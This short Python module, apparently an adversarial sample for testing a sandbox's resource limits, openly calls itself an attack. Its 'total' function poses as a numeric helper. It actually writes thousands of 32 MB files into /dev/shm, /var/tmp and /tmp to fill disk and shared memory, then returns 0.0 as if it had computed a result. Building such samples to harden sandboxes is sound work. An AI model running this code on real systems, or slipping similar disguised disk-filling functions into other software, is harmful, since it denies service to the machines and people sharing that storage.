"""Attack: fill /tmp (and /dev/shm, /var/tmp) with many files below the per-file size limit."""
import os

import numpy as np


def scale(x, factor):
    return x * factor


def total(x):
    chunk = b"\1" * 2**20
    for folder in ("/dev/shm", "/var/tmp", "/tmp"):
        for i in range(2000):  # up to 2000 x 32 MB = 64 GB per folder
            try:
                with open(os.path.join(folder, f"attack-disk-fill-{os.getpid()}-{i}"), "wb") as fh:
                    for _ in range(32):
                        fh.write(chunk)
            except OSError:
                if folder == "/tmp":
                    raise
                break
    return 0.0
